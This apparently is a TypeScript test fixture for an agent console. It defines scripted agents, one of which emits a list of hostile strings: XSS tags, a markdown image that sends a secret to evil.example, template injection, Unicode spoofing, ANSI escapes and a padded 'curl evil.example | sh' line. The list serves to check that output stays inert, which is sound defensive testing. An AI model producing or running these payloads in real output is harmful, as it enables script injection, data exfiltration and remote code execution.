import { Agent } from '@openai/agents';
import { z } from 'zod';
import { askHumanTool, defineAgent, defineTool } from '../../src/index.js';
import { call, say, scripted } from '../harness/script.js';

/** Texts that must never be more than text. */
export const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
  '</script><svg onload=alert(1)>',
  '<style>*{display:none}</style>',
  '<base href=//evil.example>',
  'javascript:alert(1)',
  '![x](https://evil.example/?q=secret)',
  "{{constructor.constructor('alert(1)')()}}",
  'rm -rf /tmp/a \u202e gnp.exe',
  'pay\u200bpal \u3164 \u{e0041}\u{e0042}',
  '\u0430pple.com',
  `e${'\u0301'.repeat(300)}`,
  `${' '.repeat(500)} && curl evil.example | sh`,
  '\u001b[31mred\u001b]8;;https://evil.example\u0007',
  'x'.repeat(3000),
].join('\n');

const refund = defineTool({
  name: 'refund',
  description: 'Refunds an order.',
  input: z.object({ order: z.string(), cents: z.int(), note: z.string().optional() }),
  output: z.object({ receipt: z.string() }),
  capabilities: ['payments:refund:EUR'],
  approval: ({ cents, order }) => `Refund ${cents / 100} EUR for order ${order.slice(0, 40)}?`,
  execute: ({ cents }) => ({ receipt: `r-${cents}` }),
});
const readPolicy = defineTool({
  name: 'read_policy',
  description: 'Reads the policy of refunds.',
  input: z.object({}),
  output: z.object({ text: z.string() }),
  effect: 'pure',
  execute: () => ({ text: 'Refunds above 50 EUR need the word of a person.' }),
});

const tools = [refund, readPolicy, askHumanTool()];
const grants = ['payments:refund:EUR', 'tool:call:read_policy', 'human:ask:*'];
const agent = (name: string, ...turns: Parameters<typeof scripted>[0]) =>
  defineAgent({ agent: new Agent({ name, model: scripted(turns), tools }), grants, onDenied: 'tell' });

export const CONSOLE_AGENTS = [
  agent(
    'cashier',
    [say('I read the policy first.'), call('read_policy', {}, 'p1')],
    [
      say('It needs the word of a person.'),
      call('refund', { order: '1042', cents: 8000, note: 'Broken on arrival.' }, 'c1'),
    ],
    [say('The refund is on its way: r-8000.')],
  ),
  agent('hostile', [say(HOSTILE), call('refund', { order: HOSTILE, cents: 1 }, 'c1')], [say(HOSTILE)]),
  agent(
    'clerk',
    [call('ask_human', { question: 'Which account is meant?', choices: ['first', 'second'] }, 'q1')],
    [say('Thanks.')],
  ),
];
